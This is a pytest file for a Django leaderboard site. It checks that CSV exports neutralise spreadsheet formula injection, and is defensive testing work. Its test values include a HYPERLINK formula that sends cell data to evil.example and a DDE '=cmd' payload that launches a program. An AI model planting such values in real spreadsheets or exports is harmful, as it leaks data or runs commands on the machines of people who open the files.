"""Every CSV the site writes neutralises formula cells (OWASP): `=`, `+`, `-`, `@`, tab, CR
at the start of a text cell get a leading `'`; numbers are left alone."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client

from catalogue.models import ArenaModel
from core.audit import record
from core.csv_cells import safe_cell
from leaderboard.models import RatingConfig
from leaderboard.recompute import recompute

PAYLOADS = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


def test_plain_text_and_numbers_are_kept():
    assert safe_cell("Mistral AI") == "Mistral AI"
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    assert safe_cell("a=b") == "a=b"  # only the first character counts


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_the_board_csv_neutralises_an_organisation_an_admin_typed(api):
    config = RatingConfig.current()
    config.rounds, config.slice_rounds, config.min_model_votes = 50, 20, 5
    config.save()
    call_command("simulate_battles", "--battles", "1500", "--seed", "3", stdout=io.StringIO())
    model = ArenaModel.objects.get(key="codestral-2405")
    model.organization = '=HYPERLINK("http://evil.example/?"&A1,"Mistral")'
    model.save()
    recompute(trigger="test")
    resp = api.get("/api/v1/leaderboard?format=csv")
    assert resp.status_code == 200
    rows = {r["model"]: r for r in _rows(resp.content.decode())}
    assert rows["codestral-2405"]["organization"] == "'" + model.organization
    assert all(not r["organization"].startswith("=") for r in rows.values())
    changes = [r["rank_change"] for r in rows.values() if r["rank_change"]]
    assert all(not c.startswith("'") for c in changes)  # numbers stay numbers


@pytest.mark.django_db
def test_the_audit_log_export_neutralises_reasons_and_targets():
    admin = get_user_model().objects.create_superuser("csv-admin", "c@example.org", "pw")
    record(actor=admin, action="exclude battles", target="@user", reason="=cmd|' /C calc'!A0")
    client = Client()
    client.force_login(admin)
    text = client.get("/admin/core/auditentry/export.csv").content.decode()
    row = _rows(text)[0]
    assert row["reason"] == "'=cmd|' /C calc'!A0" and row["target"] == "'@user"
